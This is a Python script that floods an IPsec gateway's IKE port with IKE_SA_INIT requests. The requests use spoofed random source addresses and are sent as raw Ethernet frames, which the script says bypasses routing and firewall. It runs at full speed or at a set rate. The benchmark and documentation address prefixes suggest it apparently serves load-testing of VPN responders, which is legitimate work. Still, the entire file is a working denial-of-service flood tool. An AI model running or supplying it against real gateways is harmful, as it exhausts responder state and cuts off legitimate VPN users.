#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""usage: flood.py DEVICE MAC ADDRESS [PER-SECOND]

Sends IKE_SA_INIT requests to ADDRESS, port 500, from random sources, each with a new
SPI and nonce and a proposal that gateways take, out of DEVICE to the host of this link
layer address: past routing and firewall. As many as it can where no rate is given, until
it is ended; else at random times, so that where they fill a queue, who comes between them
finds a place there as often as they do.
"""
import ipaddress
import os
import random
import socket
import struct
import sys
import time


def ones_sum(octets):
    if len(octets) % 2:
        octets += b"\0"
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def request():
    def payload(following, body):
        return struct.pack("!BxH", following, 4 + len(body)) + body

    def transform(more, kind, ident, attribute=b""):
        return struct.pack("!BxHBxH", more, 8 + len(attribute), kind, ident) + attribute

    # AES-GCM-16 with 256 bits, HMAC-SHA2-256, Curve25519
    transforms = (transform(3, 1, 20, struct.pack("!HH", 0x800E, 256)) +
                  transform(3, 2, 5) + transform(0, 4, 31))
    proposal = struct.pack("!BxHBBBB", 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    payloads = (payload(34, proposal) +
                payload(40, struct.pack("!Hxx", 31) + os.urandom(32)) +
                payload(0, os.urandom(32)))
    spi = os.urandom(7) + b"\1"
    return struct.pack("!8s8xBBBBII", spi, 33, 0x20, 34, 0x08, 0, 28 + len(payloads)) + payloads


def packet(destination):
    message = request()
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), 500, 8 + len(message), 0) + message
    if destination.version == 4:
        # Of the prefix for benchmarks (RFC 2544).
        source = bytes([198, random.randrange(18, 20)]) + os.urandom(2)
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source,
                             destination.packed)
        check = ~ones_sum(header) & 0xFFFF
        return header[:10] + struct.pack("!H", check) + header[12:] + udp
    source = bytes.fromhex("20010db8") + os.urandom(12)
    pseudo = source + destination.packed + struct.pack("!IxxxB", len(udp), 17)
    check = (~ones_sum(pseudo + udp) & 0xFFFF) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", check) + udp[8:]
    return struct.pack("!IHBB16s16s", 6 << 28, len(udp), 17, 64, source,
                       destination.packed) + udp


def main():
    device, mac, address = sys.argv[1:4]
    rate = float(sys.argv[4]) if len(sys.argv) > 4 else 0
    destination = ipaddress.ip_address(address)
    ethertype = 0x0800 if destination.version == 4 else 0x86DD
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    sock.bind((device, 0))
    ethernet = (bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000099") +
                struct.pack("!H", ethertype))
    due = time.monotonic()
    while True:
        try:
            sock.send(ethernet + packet(destination))
        except OSError as e:
            # The queue is full: that is what a flood does.
            if e.errno != 105:
                raise
        if rate:
            due += random.expovariate(rate)
            time.sleep(max(0, due - time.monotonic()))


main()
